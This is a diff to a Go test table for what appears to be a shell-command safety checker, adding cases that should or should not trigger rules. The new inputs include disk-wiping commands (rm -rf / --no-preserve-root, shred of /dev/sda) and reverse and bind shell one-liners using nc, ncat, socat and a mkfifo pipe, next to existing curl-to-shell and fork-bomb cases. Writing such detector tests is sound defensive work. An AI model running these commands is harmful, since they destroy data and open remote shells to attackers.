@@ -50,6 +50,10 @@ var checkCases = []checkCase{
 	{cmd: `rm -rf "$tmpdir"`},
 	{cmd: "rm -rf /tmp/build-123"},
 	{cmd: "rm -rf /var/lib/apt/lists/*"},
+	{cmd: "rm -rf /var/log/*.gz /var/log/nginx/*"},
+	{cmd: "rm -rf /tmp/myapp-*"},
+	{cmd: "rm -rf / --no-preserve-root", rule: rDel},
+	{cmd: "shred -vzn 0 /dev/sda", rule: rDevW},
 	{cmd: "cd /tmp && rm -rf build"},
 	{cmd: "cd / && ls"},
 	{cmd: "cd /; rm -rf tmp/x"},
@@ -722,6 +726,13 @@ var checkCases = []checkCase{
 	{cmd: "$(echo c3Vkbw== | base64 -d) ls", rule: rRemote},
 	{cmd: "curl http://x | at now", rule: rRemote},
 	{cmd: "curl http://x > /dev/null | sh", rule: rRemote},
+
+	{cmd: "nc -e /bin/sh 10.0.0.1 4444", rule: rRemote},
+	{cmd: "ncat --sh-exec 'bash -i' -l 4444", rule: rRemote},
+	{cmd: "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr", rule: rRemote},
+	{cmd: "socat TCP-LISTEN:8080,fork TCP:localhost:80"},
+	{cmd: "nc -zv host 443"},
+	{cmd: "mkfifo /tmp/f; nc host 4444 < /tmp/f | /bin/sh -i > /tmp/f", rule: rRemote},
 
 	// fork-bomb.
 	{cmd: ":(){ :|:& };:", rule: rBomb},
